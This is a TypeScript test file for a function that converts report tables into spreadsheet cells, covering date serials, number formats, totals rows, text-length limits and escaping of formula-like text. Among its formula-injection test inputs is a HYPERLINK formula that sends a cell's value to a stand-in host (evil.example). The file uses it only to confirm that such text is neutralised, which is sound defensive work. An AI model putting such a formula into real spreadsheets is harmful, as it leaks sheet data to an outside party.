// Tables as cells: every kind of value as it must be given to a sheet.

import fc from 'fast-check';
import { parseDay, serialOfDay } from '../../src/core/day';
import type { Column, Table, TableValue } from '../../src/core/table';
import { cellsOf, isDayFormat, LONGEST_TEXT, textCell } from '../../src/sheet/cells';
import { anyText } from '../fakes/any-text';

const COLUMNS: readonly Column[] = [
  { name: 'date', title: 'Date', kind: 'day', role: 'dimension' },
  { name: 'name', title: 'Name', kind: 'text', role: 'dimension' },
  { name: 'impressions', title: 'Impressions', kind: 'integer', role: 'metric' },
  { name: 'ctr', title: 'CTR', kind: 'ratio', role: 'metric' },
  { name: 'revenue', title: 'Revenue', kind: 'money', role: 'metric' },
];
const row = (
  changes: Partial<Record<'date' | 'name' | 'impressions' | 'ctr' | 'revenue', TableValue>> = {},
) =>
  COLUMNS.map(
    ({ name }) =>
      ({ date: '2026-11-19', name: 'x', impressions: 1, ctr: 0.5, revenue: 2, ...changes })[name] ?? null,
  );
const table = (...rows: TableValue[][]): Table => ({ columns: COLUMNS, rows });

describe('cellsOf', () => {
  test('titles, formats and values by kind', () => {
    const cells = cellsOf(table(row()));
    expect(cells.titles).toEqual(['Date', 'Name', 'Impressions', 'CTR', 'Revenue']);
    expect(cells.formats).toEqual(['yyyy-mm-dd', '@', '#,##0', '0.00%', '"$"#,##0.00']);
    // 2026-11-19 is day 46345: 126 years of 365 days, 31 leap days, 323 days into 2026, 2 days of 1899.
    expect(cells.rows).toEqual([[126 * 365 + 31 + 322 + 2, 'x', 1, 0.5, 2]]);
    expect(cells).toMatchObject({ totalRows: 0, highlights: null });
  });

  test.each([
    ['week', 'yyyy-mm-dd'],
    ['month', 'yyyy-mm'],
  ] as const)('a %s is its first day, in a format of its own', (bucket, format) => {
    const column: Column = { name: bucket, title: 'Any', kind: 'day', bucket, role: 'dimension' };
    const cells = cellsOf({ columns: [column], rows: [['2026-11-01']] });
    expect(cells).toMatchObject({ formats: [format], rows: [[126 * 365 + 31 + 304 + 2]] });
    expect(isDayFormat(format)).toBe(true);
  });

  test('null leaves a cell empty; 0 stays 0', () => {
    expect(
      cellsOf(table(row({ date: null, name: null, impressions: 0, ctr: null, revenue: 0 }))).rows,
    ).toEqual([['', '', 0, '', 0]]);
  });

  test.each([0.1 + 0.2, 1e-7, 12345678.905, Number.MAX_SAFE_INTEGER, 5e-324, -0.5])(
    '%d is not rounded',
    (value) => {
      expect(cellsOf(table(row({ revenue: value }))).rows[0]?.[4]).toBe(value);
    },
  );

  test('the row of totals is the last, and has its label in the first column, which may be one of days', () => {
    const totals = [null, null, 1, 0.5, 2];
    const cells = cellsOf({ ...table(row()), totals });
    expect(cells.totalRows).toBe(1);
    expect(cells.rows[1]).toEqual(['Total', '', 1, 0.5, 2]);
  });

  test('the row of those left out precedes the totals', () => {
    const [totals, others] = [
      [null, null, 9, 0.5, 3],
      [null, null, 8, 0.25, 1],
    ];
    const cells = cellsOf({ ...table(row()), totals, leftOut: { rows: 2, totals: others } });
    expect(cells.totalRows).toBe(1);
    expect(cells.rows.slice(1)).toEqual([
      ['', 'Others (2 rows)', 8, 0.25, 1],
      ['Total', '', 9, 0.5, 3],
    ]);
  });

  test.each([
    ['launch week', 'launch week'],
    ['2026-02-30', '2026-02-30'],
    ['=1+1', "'=1+1"],
  ])('%p, typed into a column of days, stays a text', (typed, cell) => {
    expect(cellsOf(table(row({ date: typed }))).rows[0]?.[0]).toBe(cell);
  });

  test('highlighted cells are passed on', () => {
    const highlights = { column: 1, rows: [0] };
    expect(cellsOf({ ...table(row()), highlights }).highlights).toEqual(highlights);
  });

  test('a text of 50,000 characters fits; one more names column, row and lengths', () => {
    expect(cellsOf(table(row({ name: 'x'.repeat(LONGEST_TEXT) }))).rows[0]?.[1]).toHaveLength(50_000);
    expect(() => cellsOf(table(row(), row({ name: 'x'.repeat(LONGEST_TEXT + 1) })))).toThrow(
      expect.objectContaining({
        code: 'TEXT_TOO_LONG',
        details: { column: 'Name', row: 2, length: 50_001, limit: 50_000 },
      }),
    );
  });

  test.each([
    ['a title', 'x'.repeat(LONGEST_TEXT), 'a', 0],
    ['a text that looks like a formula', 'Name', `=${'x'.repeat(LONGEST_TEXT - 1)}`, 1],
  ])('%s that would have one character too many with its apostrophe is refused', (_what, title, name, at) => {
    const { columns, ...rest } = table(row({ name }));
    const renamed = columns.map((column) => (column.name === 'name' ? { ...column, title } : column));
    expect(() => cellsOf({ ...rest, columns: renamed })).toThrow(
      expect.objectContaining({
        code: 'TEXT_TOO_LONG',
        details: { column: title, row: at, length: 50_001, limit: 50_000 },
      }),
    );
  });

  test('every day of a century becomes its serial number, counted one by one', () => {
    const first = parseDay('1999-12-31');
    if (!first) throw new Error('a day');
    let serial = serialOfDay(first);
    // 1999-12-31 is 36525 days after the epoch: 99 years, 24 leap days, 364 days into 1999, 2 days of 1899.
    expect(serial).toBe(99 * 365 + 24 + 364 + 2);
    const [rows, serials]: [TableValue[][], number[]] = [[], []];
    for (let ms = Date.UTC(1999, 11, 31); ms < Date.UTC(2100, 0, 1); ms += 86_400_000) {
      rows.push(row({ date: new Date(ms).toISOString().slice(0, 10) }));
      serials.push(serial++);
    }
    expect(cellsOf(table(...rows)).rows.map(([date]) => date)).toEqual(serials);
  });
});

describe('textCell', () => {
  test.each<[string, string]>([
    ['=HYPERLINK("https://evil.example/?"&A1)', `'=HYPERLINK("https://evil.example/?"&A1)`],
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ["'quoted", "''quoted"],
    [' =1', "' =1"],
    ['\t=1', "'\t=1"],
    ['\r=1', "'\r=1"],
    ['\n=1', "'\n=1"],
    ['\u00a0=1', "'\u00a0=1"],
    // Format @ keeps these as text; nothing is put before them.
    ['00123', '00123'],
    ['May 5', 'May 5'],
    ['TRUE', 'TRUE'],
    ['1e5', '1e5'],
    ['1400000001', '1400000001'],
    ['', ''],
    ['a=b', 'a=b'],
  ])('%j is given as %j', (text, given) => {
    expect(textCell(text)).toBe(given);
  });

  test('only a leading apostrophe is ever added, and never is a formula given', () => {
    fc.assert(
      fc.property(anyText(), (text) => {
        const given = textCell(text);
        expect([text, `'${text}`]).toContain(given);
        expect(given.startsWith('=')).toBe(false);
        // A sheet drops one apostrophe, so what it holds is the text.
        expect(given.startsWith("'") ? given.slice(1) : given).toBe(text);
      }),
    );
  });
});
